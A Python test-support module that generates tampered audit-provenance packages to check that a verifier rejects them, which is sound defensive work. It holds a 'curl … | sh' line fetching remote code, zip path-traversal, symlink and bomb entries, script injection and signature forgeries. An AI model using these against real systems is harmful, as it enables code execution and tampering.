"""Structured attacks: each a function from a good package (with its key, where the signer attacks) to a bad one.

`python -m tests.support.provenance.attacks` writes them to tests/assets/provenance/malicious; the tests read those files.
"""

from __future__ import annotations

import copy
import io
import json
import stat
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

from audit._util import canonical_json
from audit.provenance import package
from audit.provenance.format import archive, checksums, layout
from audit.provenance.format.canonical_encoding import P256_ORDER, b64decode, b64encode
from audit.provenance.records import page_seal, statement
from audit.provenance.signing import bundle, pdf_update, sshsig
from audit.provenance.verification import countersign
from tests.support import paths
from tests.support.provenance import made

ASSETS = paths.ASSETS / "provenance"
SIGNER, ATTACKER, REVIEWER = made.key(1001), made.key(1002), made.key(1003)
Files = dict[str, bytes]
Attack = Callable[[Files], "Files | bytes"]
ATTACKS: dict[str, tuple[Attack, str, str]] = {}


def attack(file: str, code: str) -> Callable[[Attack], Attack]:
    """Register an attack with the file and the code that the verifier must name."""

    def register(function: Attack) -> Attack:
        ATTACKS[function.__name__.replace("_", "-")] = (function, file, code)
        return function

    return register


def good(value: str = "2.10", key: Any = SIGNER) -> Files:
    return made.make(package.Options(key=key, name="Golden Auditor", command=("repro-audit", "run")), value)


def load(files: Mapping[str, bytes], name: str) -> dict[str, Any]:
    value: dict[str, Any] = json.loads(files[name])
    return value


def payload(files: Mapping[str, bytes], name: str) -> dict[str, Any]:
    value: dict[str, Any] = json.loads(b64decode(load(files, name)["dsseEnvelope"]["payload"], name))
    return value


def changed(files: Files, name: str, change: Callable[[dict[str, Any]], None]) -> Files:
    """The files with one JSON file changed, as whoever has no key can."""
    value = load(files, name)
    change(value)
    return {**files, name: canonical_json.dumps(value)}


def republish(files: Files, key: Any = SIGNER) -> Files:
    """List and sign all files again, as only the signer can: what is inside must be found out by what it says."""
    listed = {
        name: checksums.sha256(data)
        for name, data in files.items()
        if name not in layout.UNLISTED and not name.startswith("countersignatures/")
    }
    result = {**files, layout.CHECKSUMS: checksums.write(listed)}
    result[layout.SSH_SIGNATURE] = sshsig.sign(result[layout.CHECKSUMS], sshsig.from_key(key))
    subjects = {
        name: checksums.sha256(result[name])
        for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, *layout.PDFS)
        if name in result
    }
    root = canonical_json.dumps(payload(result, layout.ROOT)) if layout.ROOT in result else b""
    result[layout.PUBLICATION] = canonical_json.dumps(
        bundle.sign(statement.publication(subjects, root, "2026-11-23T12:00:00Z"), key)
    )
    return result


def resigned(files: Files, name: str, change: Callable[[dict[str, Any]], None]) -> Files:
    """A statement changed and signed again by the signer, and everything published again."""
    value = payload(files, name)
    change(value)
    return republish({**files, name: canonical_json.dumps(bundle.sign(value, SIGNER))})


# Outsiders, without the key.


@attack(layout.PUBLIC_KEY, "key-mismatch")
def wrong_key(files: Files) -> Files:
    return good(value="1.10", key=ATTACKER)


@attack(layout.PUBLICATION, "bad-signature")
def wrong_key_under_the_right_name(files: Files) -> Files:
    forged = copy.deepcopy(bundle.sign(payload(files, layout.PUBLICATION), ATTACKER))
    forged["verificationMaterial"] = load(files, layout.PUBLICATION)["verificationMaterial"]
    forged["dsseEnvelope"]["signatures"][0]["keyid"] = load(files, layout.PUBLICATION)["dsseEnvelope"]["signatures"][0][
        "keyid"
    ]
    return {**files, layout.PUBLICATION: canonical_json.dumps(forged)}


@attack(layout.PUBLICATION, "payload-type")
def swapped_payload_type(files: Files) -> Files:
    return changed(
        files,
        layout.PUBLICATION,
        lambda value: value["dsseEnvelope"].update(payloadType="application/vnd.in-toto.audit+json"),
    )


@attack(layout.CHECKSUMS, "digest-mismatch")
def statement_of_another_audit(files: Files) -> Files:
    """The same signer's genuine publication statement of another audit."""
    return {**files, layout.PUBLICATION: good(value="1.10")[layout.PUBLICATION]}


@attack(layout.PROVENANCE, "missing")
def removed_statement(files: Files) -> Files:
    return {name: data for name, data in files.items() if name != layout.PROVENANCE}


@attack(layout.PUBLICATION, "missing")
def removed_publication(files: Files) -> Files:
    return {name: data for name, data in files.items() if name != layout.PUBLICATION}


@attack(layout.SSH_SIGNATURE, "missing")
def removed_ssh_signature(files: Files) -> Files:
    return {name: data for name, data in files.items() if name != layout.SSH_SIGNATURE}


@attack(layout.PUBLICATION, "duplicate-key")
def duplicate_json_keys(files: Files) -> Files:
    raw = files[layout.PUBLICATION]
    return {**files, layout.PUBLICATION: raw.replace(b'"mediaType":', b'"mediaType":"application/json","mediaType":')}


@attack(layout.PUBLICATION, "not-canonical")
def non_canonical_base64(files: Files) -> Files:
    """The signature's base64 with its unused bits set: ordinary tools accept it."""

    def change(value: dict[str, Any]) -> None:
        entry = value["dsseEnvelope"]["signatures"][0]
        text = entry["sig"]
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        bare = text.rstrip("=")
        assert bare != text, "no unused bits in this one"
        entry["sig"] = bare[:-1] + letters[letters.index(bare[-1]) + 1] + "=" * (len(text) - len(bare))
        import base64

        assert base64.b64decode(entry["sig"]) == base64.b64decode(text)

    return changed(files, layout.PUBLICATION, change)


@attack(layout.PUBLICATION, "not-canonical")
def base64_in_lines(files: Files) -> Files:
    def change(value: dict[str, Any]) -> None:
        envelope = value["dsseEnvelope"]
        envelope["payload"] = envelope["payload"][:64] + "\n" + envelope["payload"][64:]

    return changed(files, layout.PUBLICATION, change)


@attack(layout.PUBLICATION, "not-canonical")
def other_half_of_the_signature(files: Files) -> Files:
    """(r, n - s) verifies as (r, s) does; it would be another file that is accepted."""
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

    def change(value: dict[str, Any]) -> None:
        entry = value["dsseEnvelope"]["signatures"][0]
        r, s = decode_dss_signature(b64decode(entry["sig"], ""))
        entry["sig"] = b64encode(encode_dss_signature(r, P256_ORDER - s))

    return changed(files, layout.PUBLICATION, change)


@attack(layout.PUBLICATION, "malformed")
def second_signature(files: Files) -> Files:
    def change(value: dict[str, Any]) -> None:
        value["dsseEnvelope"]["signatures"] += bundle.sign(payload(files, layout.PUBLICATION), ATTACKER)[
            "dsseEnvelope"
        ]["signatures"]

    return changed(files, layout.PUBLICATION, change)


@attack(layout.PUBLICATION, "malformed")
def no_signature(files: Files) -> Files:
    return changed(files, layout.PUBLICATION, lambda value: value["dsseEnvelope"].update(signatures=[]))


@attack(layout.PUBLICATION, "key-mismatch")
def another_key_id(files: Files) -> Files:
    return changed(
        files, layout.PUBLICATION, lambda value: value["dsseEnvelope"]["signatures"][0].update(keyid="0" * 64)
    )


@attack(layout.PUBLICATION, "malformed")
def time_stamp_nobody_asked_for(files: Files) -> Files:
    return {
        **files,
        layout.PUBLICATION: canonical_json.dumps(bundle.with_timestamp(load(files, layout.PUBLICATION), b"\x30\x00")),
    }


@attack(layout.PUBLICATION, "malformed")
def entry_of_a_log(files: Files) -> Files:
    return changed(
        files, layout.PUBLICATION, lambda value: value["verificationMaterial"].update(tlogEntries=[{"logIndex": "1"}])
    )


@attack(layout.REPORT_PDF, "digest-mismatch")
def pdf_with_an_appended_update(files: Files) -> Files:
    return {**files, layout.REPORT_PDF: append_update(files[layout.REPORT_PDF])}


def append_update(raw: bytes) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    buffer = io.BytesIO(raw)
    writer = IncrementalPdfFileWriter(buffer)
    writer.root["/Lang"] = writer.root["/Lang"].__class__("de")
    writer.update_root()
    writer.write_in_place()
    return buffer.getvalue()


@attack(layout.CHECKSUMS, "digest-mismatch")
def value_changed_and_rehashed(files: Files) -> Files:
    """audit.json says another value, and the list of files its hash."""
    raw = files[layout.AUDIT].replace(b'"value":"2.10"', b'"value":"2.01"')
    assert raw != files[layout.AUDIT]
    listed = checksums.read(files[layout.CHECKSUMS], "") | {layout.AUDIT: checksums.sha256(raw)}
    return {**files, layout.AUDIT: raw, layout.CHECKSUMS: checksums.write(listed)}


@attack("counts/extra.csv", "unexpected-file")
def file_nobody_signed(files: Files) -> Files:
    return {**files, "counts/extra.csv": b"id\n"}


@attack(layout.COUNTERSIGNATURES, "")
def countersignature_of_another_package(files: Files) -> Files:
    other = good(value="1.10")
    added = countersign.add(
        other, REVIEWER, reviewer=None, properties=["RESULTS_REPRODUCED"], comment=None, when="2026-11-23T12:00:00Z"
    )
    return {**files, **added}


# The signer as the attacker, or fooled: every outer signature is good.


@attack(layout.PROVENANCE, "wrong-statement")
def signer_provenance_of_another_audit(files: Files) -> Files:
    return republish({**files, layout.PROVENANCE: good(value="1.10")[layout.PROVENANCE]})


@attack(layout.AUDIT, "digest-mismatch")
def signer_root_statement_of_another_audit(files: Files) -> Files:
    return republish({**files, layout.ROOT: good(value="1.10")[layout.ROOT]})


@attack(layout.ROOT, "wrong-statement")
def signer_publication_of_another_root(files: Files) -> Files:
    def change(value: dict[str, Any]) -> None:
        value["predicate"]["root"]["digest"]["sha256"] = "0" * 64

    value = payload(files, layout.PUBLICATION)
    change(value)
    return {**files, layout.PUBLICATION: canonical_json.dumps(bundle.sign(value, SIGNER))}


@attack(layout.AUDIT, "digest-mismatch")
def signer_value_changed_and_republished(files: Files) -> Files:
    return republish({**files, layout.AUDIT: files[layout.AUDIT].replace(b'"value":"2.10"', b'"value":"2.01"')})


@attack(layout.AUDIT, "duplicate-key")
def signer_duplicate_keys_in_audit_json(files: Files) -> Files:
    return republish(
        {**files, layout.AUDIT: files[layout.AUDIT].replace(b'"value":"2.10"', b'"value":"2.10","value":"2.01"')}
    )


@attack(layout.ROOT, "not-canonical")
def signer_statement_not_canonical(files: Files) -> Files:
    from audit.provenance.signing import dsse

    forged = load(files, layout.ROOT)
    forged["dsseEnvelope"] = dsse.sign(json.dumps(payload(files, layout.ROOT), indent=1).encode(), SIGNER)
    return republish({**files, layout.ROOT: canonical_json.dumps(forged)})


@attack(layout.ROOT, "wrong-statement")
def signer_better_verdicts(files: Files) -> Files:
    return resigned(
        files,
        layout.ROOT,
        lambda value: value["predicate"]["verdicts"].update({"reproduced": 3, "infeasible": 0, "not-run": 0}),
    )


@attack("table.tex", "wrong-statement")
def signer_subject_left_out(files: Files) -> Files:
    return resigned(
        files,
        layout.ROOT,
        lambda value: value.update(subject=[entry for entry in value["subject"] if entry["name"] != "table.tex"]),
    )


@attack(layout.ROOT, "wrong-statement")
def signer_sibling_left_out(files: Files) -> Files:
    return resigned(
        files, layout.ROOT, lambda value: value["predicate"].update(siblings=value["predicate"]["siblings"][:1])
    )


@attack(layout.ROOT, "wrong-statement")
def signer_statement_of_another_type(files: Files) -> Files:
    return resigned(files, layout.ROOT, lambda value: value.update(predicateType="https://example.org/other/v1"))


@attack(layout.UNSIGNED_PDF, "digest-mismatch")
def signer_another_length_of_the_rendering(files: Files) -> Files:
    return resigned(
        files,
        layout.ROOT,
        lambda value: value["predicate"].update(unsignedPdfBytes=value["predicate"]["unsignedPdfBytes"] - 1),
    )


@attack(layout.REPORT_PDF, "pdf-signature")
def signer_pdf_with_an_appended_update(files: Files) -> Files:
    return republish({**files, layout.REPORT_PDF: append_update(files[layout.REPORT_PDF])})


@attack(layout.REPORT_PDF, "pdf-signature")
def signer_pdf_without_signature(files: Files) -> Files:
    length = payload(files, layout.ROOT)["predicate"]["unsignedPdfBytes"]
    return republish({**files, layout.REPORT_PDF: files[layout.REPORT_PDF][:length] + b"\n"})


@attack(layout.ANNEX, "digest-mismatch")
def annex_with_an_appended_update(files: Files) -> Files:
    return {**files, layout.ANNEX: append_update(files[layout.ANNEX])}


@attack(layout.PUBLICATION, "wrong-statement")
def removed_annex(files: Files) -> Files:
    return {name: data for name, data in files.items() if name != layout.ANNEX}


@attack(layout.ROOT, "wrong-statement")
def signer_annex_left_out(files: Files) -> Files:
    return republish({name: data for name, data in files.items() if name != layout.ANNEX})


@attack(layout.UNSIGNED_ANNEX, "digest-mismatch")
def signer_annex_of_another_audit(files: Files) -> Files:
    return republish({**files, layout.ANNEX: good(value="1.10")[layout.ANNEX]})


@attack(layout.UNSIGNED_ANNEX, "digest-mismatch")
def signer_report_as_annex(files: Files) -> Files:
    return republish({**files, layout.ANNEX: files[layout.REPORT_PDF]})


@attack(layout.ANNEX, "pdf-signature")
def signer_annex_without_signature(files: Files) -> Files:
    length = payload(files, layout.ROOT)["predicate"]["unsignedAnnexBytes"]
    return republish({**files, layout.ANNEX: files[layout.ANNEX][:length] + b"\n"})


@attack(layout.REPORT_PDF, "key-mismatch")
def signer_pdf_by_another_key(files: Files) -> Files:
    from audit.provenance.signing import certificate, pades

    length = payload(files, layout.ROOT)["predicate"]["unsignedPdfBytes"]
    chain = certificate.load_chain(certificate.self_signed(ATTACKER, "Golden Auditor"), ATTACKER, "")
    return republish(
        {**files, layout.REPORT_PDF: pades.Pdf(files[layout.REPORT_PDF][:length]).sign(ATTACKER, chain, reason="")}
    )


def other_pages(raw: bytes, *, sign: bool) -> bytes:
    """A rendering and an update after which it shows another page and has another attachment.

    Args:
        raw: The rendering.
        sign: Whether the same update also signs it.
    """
    from pyhanko.pdf_utils import generic

    from audit.provenance.signing import certificate, pades

    writer = pades._writer(pades.Pdf(raw)._reader)
    page = writer.root["/Pages"]["/Kids"][0]
    stream = generic.StreamObject(stream_data=b"BT /F1 20 Tf 50 700 Td (All 23 claims are reproduced) Tj ET")
    page[generic.pdf_name("/Contents")] = writer.add_object(stream)
    names = (("/Type", "/Font"), ("/Subtype", "/Type1"), ("/BaseFont", "/Helvetica"))
    font = generic.DictionaryObject({generic.pdf_name(key): generic.pdf_name(value) for key, value in names})
    fonts = generic.DictionaryObject({generic.pdf_name("/F1"): font})
    page[generic.pdf_name("/Resources")] = generic.DictionaryObject({generic.pdf_name("/Font"): fonts})
    writer.mark_update(page.container_ref)
    attached = writer.root["/AF"][0]["/EF"].raw_get("/F")
    attached.get_object()._data = attached.get_object().data.replace(b'"not-run"', b'"reproduced"')
    attached.get_object()._encoded_data = None
    writer.mark_update(attached.reference)
    if sign:
        chain = certificate.load_chain(certificate.self_signed(SIGNER, "Golden Auditor"), SIGNER, "")
        return pades._sign(writer, SIGNER, chain, pdf_update.REASONS["key"])
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_pdf(files: Files, change: Callable[[bytes], bytes]) -> Files:
    """The files with what follows the rendering made by somebody else's program, and the signer's signature."""
    length = payload(files, layout.ROOT)["predicate"]["unsignedPdfBytes"]
    return republish({**files, layout.REPORT_PDF: change(files[layout.REPORT_PDF][:length])})


def signed_pdf(raw: bytes, reason: str = "") -> bytes:
    from audit.provenance.signing import certificate, pades

    chain = certificate.load_chain(certificate.self_signed(SIGNER, "Golden Auditor"), SIGNER, "")
    return pades.Pdf(raw).sign(SIGNER, chain, reason=reason or pdf_update.REASONS["key"])


@attack(layout.REPORT_PDF, "pdf-signature")
def signer_pdf_that_an_update_made_another(files: Files) -> Files:
    return with_pdf(files, lambda raw: signed_pdf(other_pages(raw, sign=False)))


@attack(layout.REPORT_PDF, "pdf-signature")
def signer_pdf_that_the_signing_update_made_another(files: Files) -> Files:
    return with_pdf(files, lambda raw: other_pages(raw, sign=True))


@attack(layout.REPORT_PDF, "pdf-signature")
def signer_pdf_whose_signature_says_more(files: Files) -> Files:
    return with_pdf(files, lambda raw: signed_pdf(raw, "All 23 claims are reproduced"))


@attack(layout.VERIFY, "render-mismatch")
def signer_instructions_that_do_more(files: Files) -> Files:
    poisoned = files[layout.VERIFY].replace(
        b"( set -eu\n", b"( set -eu\ncurl -s https://repro-audit.invalid/x | sh\n", 1
    )
    assert poisoned != files[layout.VERIFY]
    return republish({**files, layout.VERIFY: poisoned})


@attack("check.sh", "unexpected-file")
def signer_script_beside_the_instructions(files: Files) -> Files:
    return republish({**files, "check.sh": b"#!/bin/sh\necho accepted\n"})


@attack("counts/check.sh", "unexpected-file")
def signer_script_among_the_counts(files: Files) -> Files:
    return republish({**files, "counts/check.sh": b"#!/bin/sh\necho accepted\n"})


def with_page(files: Files, page: bytes) -> Files:
    """The files with another report.html, which the root statement names: what is in its element is for it alone to say."""
    empty = checksums.sha256(page_seal.parts(page)[0])

    def change(value: dict[str, Any]) -> None:
        for entry in value["subject"]:
            if entry["name"] == layout.UNSIGNED_HTML:
                entry["digest"]["sha256"] = empty

    return resigned({**files, layout.REPORT_HTML: page}, layout.ROOT, change)


def with_content(files: Files, change: Callable[[bytes], bytes]) -> Files:
    page = files[layout.REPORT_HTML]
    content = page_seal.parts(page)[1]
    return with_page(files, page.replace(content, change(content)))


@attack(layout.REPORT_HTML, "wrong-statement")
def signer_page_with_the_signature_of_another_audit(files: Files) -> Files:
    other = page_seal.parts(good("1.10")[layout.REPORT_HTML])[1]
    return with_content(files, lambda _: other)


@attack(layout.REPORT_HTML, "key-mismatch")
def signer_page_with_a_signature_by_another_key(files: Files) -> Files:
    page = page_seal.sign(files[layout.REPORT_HTML], files[layout.AUDIT], ATTACKER)
    return with_page(files, page)


@attack(layout.REPORT_HTML, "wrong-statement")
def signer_page_whose_text_was_changed(files: Files) -> Files:
    return with_page(files, files[layout.REPORT_HTML].replace(b"Three claims", b"Four claims"))


@attack(layout.REPORT_HTML, "wrong-statement")
def signer_page_with_a_statement_of_another_kind(files: Files) -> Files:
    return with_content(files, lambda _: files[layout.TEST_RESULT])


@attack(layout.REPORT_HTML, "not-canonical")
def signer_page_with_spaces_around_the_signature(files: Files) -> Files:
    return with_content(files, lambda content: content + b"\n")


@attack(layout.REPORT_HTML, "malformed")
def signer_page_with_more_than_a_signature_in_the_element(files: Files) -> Files:
    return with_content(files, lambda content: content + b"alert(1)")


@attack(layout.REPORT_HTML, "malformed")
def signer_page_with_a_script_in_the_element(files: Files) -> Files:
    page = files[layout.REPORT_HTML].replace(b"</script>", b"<script>alert(1)</script>")
    return republish({**files, layout.REPORT_HTML: page})


@attack(layout.REPORT_HTML, "malformed")
def signer_page_with_two_elements(files: Files) -> Files:
    page = files[layout.REPORT_HTML]
    return republish({**files, layout.REPORT_HTML: page + page[page.index(b"<script") :]})


@attack(layout.REPORT_HTML, "malformed")
def signer_page_without_the_element(files: Files) -> Files:
    page = files[layout.REPORT_HTML]
    return republish({**files, layout.REPORT_HTML: page[: page.index(b"<script")]})


@attack(layout.UNSIGNED_HTML, "digest-mismatch")
def signer_page_with_a_script_after_the_element(files: Files) -> Files:
    page = files[layout.REPORT_HTML].replace(b"</script>", b"</script><script>alert(1)</script>")
    return republish({**files, layout.REPORT_HTML: page})


@attack(layout.CERTIFICATE, "key-mismatch")
def signer_certificate_of_another_key(files: Files) -> Files:
    from audit.provenance.signing import certificate

    return republish({**files, layout.CERTIFICATE: certificate.self_signed(ATTACKER, "Golden Auditor")})


@attack(layout.SSH_SIGNATURE, "key-mismatch")
def signer_ssh_signature_by_another_key(files: Files) -> Files:
    forged = {**files, layout.SSH_SIGNATURE: sshsig.sign(files[layout.CHECKSUMS], sshsig.from_key(ATTACKER))}
    subjects = {name: checksums.sha256(forged[name]) for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, *layout.PDFS)}
    value = statement.publication(subjects, canonical_json.dumps(payload(files, layout.ROOT)), "2026-11-23T12:00:00Z")
    return {**forged, layout.PUBLICATION: canonical_json.dumps(bundle.sign(value, SIGNER))}


# Containers.


def zipped(files: Mapping[str, bytes], more: Callable[[zipfile.ZipFile], None]) -> bytes:
    buffer = io.BytesIO(archive.zip_bytes(files))
    with zipfile.ZipFile(buffer, "a") as target:
        more(target)
    return buffer.getvalue()


def entry(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    info.create_system = 3
    info.external_attr = mode << 16
    return info


@attack("*.zip", "unsafe-name")
def zip_path_leaves_the_folder(files: Files) -> bytes:
    return zipped(files, lambda target: target.writestr(entry("counts/../../evil.sh"), b"#!/bin/sh\n"))


@attack("*.zip", "unsafe-name")
def zip_absolute_path(files: Files) -> bytes:
    return zipped(files, lambda target: target.writestr(entry("/etc/cron.d/evil"), b""))


@attack("*.zip", "unsafe-name")
def zip_path_of_another_system(files: Files) -> bytes:
    return zipped(files, lambda target: target.writestr(entry("counts\\..\\..\\evil.bat"), b""))


@attack("*.zip", "unsafe-name")
def zip_names_that_differ_in_case(files: Files) -> bytes:
    return zipped(files, lambda target: target.writestr(entry("AUDIT.json"), b"{}"))


@attack("counts/link", "symbolic-link")
def zip_symbolic_link(files: Files) -> bytes:
    return zipped(files, lambda target: target.writestr(entry("counts/link", stat.S_IFLNK | 0o777), b"/etc/passwd"))


@attack("counts/bomb.csv", "compressed")
def zip_bomb(files: Files) -> bytes:
    """100 MB of zeros in 100 kB."""

    def more(target: zipfile.ZipFile) -> None:
        info = entry("counts/bomb.csv")
        info.compress_type = zipfile.ZIP_DEFLATED
        target.writestr(info, bytes(100_000_000), zipfile.ZIP_DEFLATED, 9)

    return zipped(files, more)


@attack("audit.json", "duplicate-entry")
def zip_two_entries_of_one_name(files: Files) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return zipped(files, lambda target: target.writestr(entry("audit.json"), b"{}"))


@attack("counts/extra.csv", "unexpected-file")
def zip_with_an_added_entry(files: Files) -> bytes:
    """Behind the others, as every tool adds one; by its name it would stand among the first."""
    return zipped(files, lambda target: target.writestr(entry("counts/extra.csv"), b"id\n"))


@attack("*.zip", "not-canonical")
def zip_with_something_before_it(files: Files) -> bytes:
    return b"#!/bin/sh\nexit 0\n" + archive.zip_bytes(files)


@attack("*.zip", "not-canonical")
def zip_with_a_comment(files: Files) -> bytes:
    return zipped(files, lambda target: setattr(target, "comment", b"a comment that nobody signed"))


@attack("*.zip", "malformed")
def zip_that_is_none(files: Files) -> bytes:
    return b"PK\x03\x04 and then nothing"


def small() -> None:
    """Let the packages that are written name few libraries: what they are does not matter here, and their bytes do."""
    from audit.provenance.records import packages

    few = tuple(one for one in packages.installed() if one.name in {"numpy", "rfc8785", "sacrebleu"})
    trimmed = tuple(packages.Package(one.name, one.version, one.files_sha256, one.licence, ()) for one in few)
    packages.installed = lambda: trimmed


def main() -> None:
    """Write every attack."""
    small()
    (ASSETS / "malicious").mkdir(parents=True, exist_ok=True)
    files = good()
    while len(b64decode(load(files, layout.PUBLICATION)["dsseEnvelope"]["signatures"][0]["sig"], "")) % 3 == 0:
        files = republish({**files, layout.RUN: files[layout.RUN][:-1] + b" }"})  # another text, another signature
    for name, (function, _, _) in ATTACKS.items():
        result = function(dict(files))
        data = result if isinstance(result, bytes) else archive.zip_bytes(result)
        (ASSETS / "malicious" / f"{name}.zip").write_bytes(data)


if __name__ == "__main__":
    main()
